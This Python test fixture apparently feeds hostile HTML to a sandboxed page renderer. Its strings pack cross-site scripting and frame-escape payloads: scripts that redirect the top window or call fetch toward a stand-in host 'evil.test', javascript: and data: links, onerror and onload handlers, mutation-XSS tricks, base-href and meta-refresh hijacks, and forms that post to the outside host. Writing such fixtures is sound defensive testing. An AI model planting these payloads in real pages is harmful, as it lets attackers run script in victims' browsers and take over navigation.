"""Pages of strangers that try to run scripts, to send requests, and to leave the frame in which they are shown."""

ELSEWHERE = "https://evil.test"
ATTACKS_OF_HEAD = f"""
<base href="{ELSEWHERE}/" target="_top">
<meta http-equiv="refresh" content="0;url={ELSEWHERE}/refreshed">
<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'">
<link rel="stylesheet" href="{ELSEWHERE}/x.css"><link rel="icon" href="{ELSEWHERE}/i.png">
<link rel="prefetch" href="{ELSEWHERE}/a"><link rel="preload" as="font" href="{ELSEWHERE}/f.woff" crossorigin>
<link rel="dns-prefetch" href="//evil.test"><link rel="preconnect" href="{ELSEWHERE}">
<link rel="prerender" href="{ELSEWHERE}/b">
<link rel="modulepreload" href="{ELSEWHERE}/m.js"><link rel="manifest" href="{ELSEWHERE}/m.json">
<script>top.ran = 1; top.location = "{ELSEWHERE}/"; fetch("{ELSEWHERE}/"); window.open("{ELSEWHERE}/")</script>
<script type="module" src="{ELSEWHERE}/x.js"></script>
<script type="speculationrules">{{"prefetch": [{{"source": "list", "urls": ["{ELSEWHERE}/s"]}}]}}</script>
<style>@import "{ELSEWHERE}/y.css"; @font-face {{ font-family: x; src: url({ELSEWHERE}/x.woff) }}
body {{ font-family: x; background: url({ELSEWHERE}/body.png) }}
li::before {{ content: url({ELSEWHERE}/li.png) }}</style>
"""
ATTACKS = f"""
<a class="bait" href="{ELSEWHERE}/top" target="_top" ping="{ELSEWHERE}/ping">leave</a>
<a class="bait" href="{ELSEWHERE}/new" target="_blank" rel="opener">open</a>
<a class="bait" href="javascript:top.ran=1">run</a>
<a class="bait" href="data:text/html,<script>top.ran=1</script>">data</a>
<form action="{ELSEWHERE}/form" target="_top" method="post"><input name="q" value="soup" autofocus onfocus="top.ran=1">
<input type="image" src="{ELSEWHERE}/image.png">
<button class="bait" formaction="{ELSEWHERE}/formed">send</button></form>
<img src="{ELSEWHERE}/x.png" srcset="{ELSEWHERE}/x2.png 2x" onerror="top.ran=1" alt="a picture">
<picture><source srcset="{ELSEWHERE}/p.webp"><img src="{ELSEWHERE}/p.png" loading="eager"></picture>
<video src="{ELSEWHERE}/v.mp4" poster="{ELSEWHERE}/v.png" autoplay></video>
<audio src="{ELSEWHERE}/a.mp3" autoplay></audio>
<iframe src="{ELSEWHERE}/frame"></iframe><iframe srcdoc="<script>top.ran=1</script>"></iframe>
<object data="{ELSEWHERE}/object"></object><embed src="{ELSEWHERE}/embed"><portal src="{ELSEWHERE}/portal"></portal>
<svg onload="top.ran=1"><script>top.ran=1</script><image href="{ELSEWHERE}/svg.png"/><use href="{ELSEWHERE}/u.svg#a"/>
<a href="{ELSEWHERE}/svg" target="_top"><text y="20">svg</text></a>
<animate onbegin="top.ran=1" attributeName="x"/></svg>
<math href="{ELSEWHERE}/math"><mtext><table><mglyph>
<style><img src=x onerror="top.ran=1"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=top.ran=1>"></noscript>
<template shadowrootmode="open"><img src="{ELSEWHERE}/shadow.png" onerror="top.ran=1"></template>
<details open ontoggle="top.ran=1"><summary>more</summary></details><marquee onstart="top.ran=1">x</marquee>
<table background="{ELSEWHERE}/t.png"><tr>
<td style="background:url({ELSEWHERE}/td.png)" onclick="top.ran=1">cell</td></tr></table>
<bt-page data-side="now"></bt-page><div class="is-old is-1" id="edit" contenteditable popover>spoof</div>
<p title='"><img src=x onerror=top.ran=1>'>quoted</p><!--><img src=x onerror=top.ran=1>-->
"""
OURS = (
    "script, iframe, frame, object, embed, form, svg, base, link, meta[http-equiv],"
    " [href], [src], [srcset], [style], [onclick]"
)
"""What there may be one of in a frame: our own script."""


def hostile(body: str) -> str:
    """A page with this content that attacks whoever shows it; its first element of the body is the content's."""
    return (
        f"<html><head><title>Shop</title>{ATTACKS_OF_HEAD}</head>"
        f'<body onload="top.ran=1" background="{ELSEWHERE}/b.png">{body}{ATTACKS}</body></html>'
    )
